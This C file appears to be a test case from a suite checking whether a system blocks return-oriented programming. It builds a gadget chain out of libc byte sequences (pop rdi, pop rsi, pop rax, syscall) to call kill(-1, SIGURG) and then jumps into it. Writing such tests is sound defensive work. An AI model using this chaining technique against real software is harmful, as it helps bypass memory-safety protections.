/* attack: lets pieces of libc's code follow each other by return addresses, up to a call of the
 * kernel
 * answer: not-yet denied says=kill
 * labs: sum
 * uses: tools calls */
#include <signal.h>

static void goes_on(void)
{
	_exit(1);
}

static uintptr_t ends_in(const char *bytes, size_t n)
{
	return (uintptr_t)call_bytes(tool_libc("puts"), bytes, n);
}

/* On its own stack, where its own frames stand above. */
static void attack(void)
{
	volatile uintptr_t chain[12];
	volatile uintptr_t *at = chain;
	void *there[5] = { (void *)tool_frame(), (void *)ends_in("\xc3", 1),
			   (void *)(uintptr_t)at };

	*at++ = ends_in("\xc3", 1); /* so that the stack is aligned in the end */
	*at++ = ends_in("\x5f\xc3", 2); /* pop %rdi; ret */
	*at++ = (uintptr_t)-1;
	*at++ = ends_in("\x5e\xc3", 2); /* pop %rsi; ret */
	*at++ = SIGURG;
	*at++ = ends_in("\x58\xc3", 2); /* pop %rax; ret */
	*at++ = SYS_kill;
	*at++ = ends_in("\x0f\x05\xc3", 3); /* syscall; ret */
	*at++ = (uintptr_t)goes_on;
	tool_jump((uintptr_t)there[0], (uintptr_t)there[1], (uintptr_t)there[2]);
}
